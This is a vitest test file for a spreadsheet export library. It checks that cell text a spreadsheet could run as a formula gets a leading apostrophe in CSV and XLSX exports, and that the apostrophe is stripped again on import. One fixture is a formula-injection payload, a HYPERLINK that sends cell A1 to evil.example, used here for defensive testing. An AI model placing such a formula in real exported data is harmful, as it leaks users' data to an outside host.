import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { neutralizeFormula, toCsv, toXlsx, type ExportColumn } from "@/lib/import-export/write-file";

/**
 * Every export cell goes through one neutralizer: a text a spreadsheet could run as a formula gets
 * a leading apostrophe, also when the dangerous character follows spaces or starts a later line.
 * papaparse's own check (`escapeFormulae`) missed any value with a line break.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

describe("neutralizeFormula", () => {
  it.each([
    ["=1+1"],
    ["+994 12 000 00 00"],
    ["-2+3"],
    ["@SUM(A1)"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["   =1+1"],
    ["\u00a0=1+1"],
    ["\uFF1D1+1"],
    [`${HYPERLINK}\nsigned copy`],
    [`Exchange agreement\n${HYPERLINK}`],
    [`Exchange agreement\r\n  @SUM(A1)`],
    [`Exchange agreement\r+1`],
    ["\n=1+1"],
  ])("prefixes %j", (value) => {
    expect(neutralizeFormula(value)).toBe(`'${value}`);
  });

  it.each([["Khazar University"], ["a = b"], ["e-mail"], ["Line one\r\nLine two"], [""], ["'=already quoted"]])("leaves %j alone", (value) => {
    expect(neutralizeFormula(value)).toBe(value);
  });

  it("leaves typed cells alone", () => {
    const day = new Date("2026-01-01T00:00:00Z");
    expect(neutralizeFormula(-5)).toBe(-5);
    expect(neutralizeFormula(true)).toBe(true);
    expect(neutralizeFormula(day)).toBe(day);
    expect(neutralizeFormula(null)).toBeNull();
  });
});

interface Row {
  title: string;
  n: number;
}

const columns: ExportColumn<Row>[] = [
  { header: "title", value: (row) => row.title },
  { header: "n", value: (row) => row.n },
];

const rows: Row[] = [
  { title: `${HYPERLINK}\nsigned copy`, n: -1 },
  { title: `Exchange agreement\n@SUM(A1)`, n: 2 },
  { title: "Plain title", n: 3 },
];

describe("exports", () => {
  it("CSV: a multi-line formula cell is neutralized and quoted; a parser reads it back as text", () => {
    const csv = toCsv(columns, rows);
    expect(csv).toContain(`"'${HYPERLINK.replaceAll('"', '""')}\nsigned copy",-1\r\n`);
    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;
    expect(parsed.map((row) => row[0])).toEqual(["title", `'${HYPERLINK}\nsigned copy`, "'Exchange agreement\n@SUM(A1)", "Plain title"]);
    expect(parsed.map((row) => row[1])).toEqual(["n", "-1", "2", "3"]);
  });

  it("Excel: the same cells are text starting with an apostrophe, numbers stay numbers", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(await toXlsx(columns, rows, "Sheet")) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(2).getCell(1).value).toBe(`'${HYPERLINK}\nsigned copy`);
    expect(sheet.getRow(3).getCell(1).value).toBe("'Exchange agreement\n@SUM(A1)");
    expect(sheet.getRow(4).getCell(1).value).toBe("Plain title");
    expect(sheet.getRow(2).getCell(2).value).toBe(-1);
    for (let row = 2; row <= 4; row++) expect(sheet.getRow(row).getCell(1).formula).toBeUndefined();
  });
});

describe("an exported file imports unchanged", () => {
  it("strips the neutralizer's apostrophe on import, and only before a formula character", async () => {
    const { toCsv } = await import("@/lib/import-export/write-file");
    const { readTabularFile } = await import("@/lib/import-export/read-file");
    const values = ["=SUM(A1)", "line one\n+line two", "'quoted on purpose", "@home", "plain"];
    const csv = toCsv([{ header: "value", value: (row: string) => row }], values);
    const table = await readTabularFile(new TextEncoder().encode(csv));
    expect(table.rows.map((row) => row[0])).toEqual(values);
  });
});
